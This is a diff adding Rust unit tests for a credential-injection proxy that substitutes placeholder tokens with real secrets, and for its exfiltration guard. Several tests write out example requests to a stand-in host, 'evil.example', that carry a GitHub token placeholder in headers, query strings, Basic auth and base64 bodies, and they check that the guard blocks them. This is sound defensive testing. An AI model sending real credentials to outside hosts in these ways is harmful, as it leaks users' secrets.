@@ -1,0 +1,213 @@
+//! Unit tests of injection and the exfiltration guard on request parts.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use bytes::Bytes;
+use http::Request;
+use http::header::HeaderName;
+
+use super::source::{EnvSource, ExecSource, FileSource};
+use super::*;
+
+const GITHUB_VALUE: &str = "ghp_unit_test_value_0123456789";
+const GITHUB_PH: &str = "keyward:github:7f3c9a1e5b2d4c8e";
+const SLACK_PH: &str = "keyward:slack:0a1b2c3d4e5f6a7b";
+
+fn store(dir: &std::path::Path) -> CredentialStore {
+    let file = dir.join("github");
+    std::fs::write(&file, GITHUB_VALUE).unwrap();
+    CredentialStore::new(vec![
+        Credential {
+            name: SecretName("github".into()),
+            source: Box::new(FileSource::new(file)),
+            placeholder: Placeholder(GITHUB_PH.into()),
+            env_var: Some("GITHUB_TOKEN".into()),
+            hosts: vec![
+                HostPattern::new("api.github.com"),
+                HostPattern::new("github.com"),
+            ],
+        },
+        Credential {
+            name: SecretName("slack".into()),
+            source: Box::new(EnvSource("KEYWARD_TEST_UNSET_SLACK".into())),
+            placeholder: Placeholder(SLACK_PH.into()),
+            env_var: None,
+            hosts: vec![HostPattern::new("slack.com")],
+        },
+    ])
+}
+
+fn parts(req: Request<()>) -> http::request::Parts {
+    req.into_parts().0
+}
+
+fn github() -> Vec<SecretName> {
+    vec![SecretName("github".into())]
+}
+
+#[tokio::test]
+async fn placeholders_in_headers_basic_auth_query_and_body_are_replaced() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = store(dir.path());
+    let basic = STANDARD.encode(format!("x-access-token:{GITHUB_PH}"));
+    let mut p = parts(
+        Request::post(format!(
+            "https://api.github.com/x?token={GITHUB_PH}&enc=keyward%3Agithub%3A7f3c9a1e5b2d4c8e"
+        ))
+        .header("authorization", format!("Basic {basic}"))
+        .header("x-token", format!("token {GITHUB_PH}"))
+        .header("content-type", "application/json")
+        .header("content-length", "40")
+        .body(())
+        .unwrap(),
+    );
+    let mut body = Bytes::from(format!("{{\"t\":\"{GITHUB_PH}\"}}"));
+    let injected = inject(&store, &github(), &[], &mut p, Some(&mut body))
+        .await
+        .unwrap();
+    assert_eq!(injected.names, github());
+    let auth = p.headers["authorization"].to_str().unwrap();
+    let decoded = STANDARD
+        .decode(auth.strip_prefix("Basic ").unwrap())
+        .unwrap();
+    assert_eq!(decoded, format!("x-access-token:{GITHUB_VALUE}").as_bytes());
+    assert_eq!(
+        p.headers["x-token"],
+        format!("token {GITHUB_VALUE}").as_str()
+    );
+    assert!(p.headers["x-token"].is_sensitive());
+    assert_eq!(
+        p.uri.query().unwrap(),
+        format!("token={GITHUB_VALUE}&enc={GITHUB_VALUE}")
+    );
+    assert_eq!(body, format!("{{\"t\":\"{GITHUB_VALUE}\"}}"));
+    assert_eq!(p.headers["content-length"], body.len().to_string().as_str());
+    let guard = ExfilGuard { store: &store };
+    assert_eq!(guard.check(&p, Some(&body), "api.github.com", true), Ok(()));
+}
+
+#[tokio::test]
+async fn set_header_template_needs_no_placeholder_from_the_agent() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = store(dir.path());
+    let mut p = parts(
+        Request::get("https://api.github.com/user")
+            .body(())
+            .unwrap(),
+    );
+    let set = vec![(
+        HeaderName::from_static("authorization"),
+        "Bearer {{github}}".to_owned(),
+    )];
+    let injected = inject(&store, &[], &set, &mut p, None).await.unwrap();
+    assert_eq!(injected.names, github());
+    assert_eq!(
+        p.headers["authorization"],
+        format!("Bearer {GITHUB_VALUE}").as_str()
+    );
+}
+
+#[tokio::test]
+async fn failing_sources_fail_closed_without_the_value() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = store(dir.path());
+    let mut p = parts(Request::get("https://slack.com/api").body(()).unwrap());
+    let err = inject(&store, &[SecretName("slack".into())], &[], &mut p, None)
+        .await
+        .unwrap_err();
+    assert!(
+        err.to_string().contains("KEYWARD_TEST_UNSET_SLACK"),
+        "{err}"
+    );
+    let exec = CredentialStore::new(vec![Credential {
+        name: SecretName("vault".into()),
+        source: Box::new(ExecSource::new(
+            vec!["false".into()],
+            std::time::Duration::from_secs(60),
+        )),
+        placeholder: Placeholder("keyward:vault:1234567890abcdef".into()),
+        env_var: None,
+        hosts: vec![],
+    }]);
+    let err = inject(&exec, &[SecretName("vault".into())], &[], &mut p, None)
+        .await
+        .unwrap_err();
+    assert!(
+        err.to_string().contains("secret vault is unavailable"),
+        "{err}"
+    );
+}
+
+#[test]
+fn guard_refuses_placeholders_for_unbound_hosts_anywhere() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = store(dir.path());
+    let guard = ExfilGuard { store: &store };
+    let unbound = |e: Result<(), Exfiltration>| matches!(e, Err(Exfiltration::Unbound { .. }));
+    let header = parts(
+        Request::get("https://evil.example/")
+            .header("x-api-key", GITHUB_PH)
+            .body(())
+            .unwrap(),
+    );
+    assert!(unbound(guard.check(&header, None, "evil.example", true)));
+    let query = parts(
+        Request::get("https://evil.example/?q=keyward%3Agithub%3A7f3c9a1e5b2d4c8e")
+            .body(())
+            .unwrap(),
+    );
+    assert!(unbound(guard.check(&query, None, "evil.example", true)));
+    let basic = STANDARD.encode(format!("u:{GITHUB_PH}"));
+    let auth = parts(
+        Request::get("https://evil.example/")
+            .header("authorization", format!("Basic {basic}"))
+            .body(())
+            .unwrap(),
+    );
+    assert!(unbound(guard.check(&auth, None, "evil.example", true)));
+    let body_b64 = STANDARD.encode(format!("prefix {GITHUB_PH} suffix"));
+    let plain = parts(
+        Request::post("https://evil.example/upload")
+            .body(())
+            .unwrap(),
+    );
+    assert!(unbound(guard.check(
+        &plain,
+        Some(body_b64.as_bytes()),
+        "evil.example",
+        true
+    )));
+    assert!(unbound(guard.check(
+        &plain,
+        Some(GITHUB_PH.as_bytes()),
+        "evil.example",
+        true
+    )));
+}
+
+#[test]
+fn guard_refuses_plain_http_and_bound_but_not_injected() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = store(dir.path());
+    let guard = ExfilGuard { store: &store };
+    let p = parts(
+        Request::get("http://api.github.com/")
+            .header("authorization", format!("token {GITHUB_PH}"))
+            .body(())
+            .unwrap(),
+    );
+    assert!(matches!(
+        guard.check(&p, None, "api.github.com", false),
+        Err(Exfiltration::PlainHttp { .. })
+    ));
+    assert!(matches!(
+        guard.check(&p, None, "api.github.com", true),
+        Err(Exfiltration::NotInjected { .. })
+    ));
+    let clean = parts(Request::get("https://api.github.com/").body(()).unwrap());
+    assert_eq!(
+        guard.check(&clean, Some(b"no placeholders"), "api.github.com", true),
+        Ok(())
+    );
+}
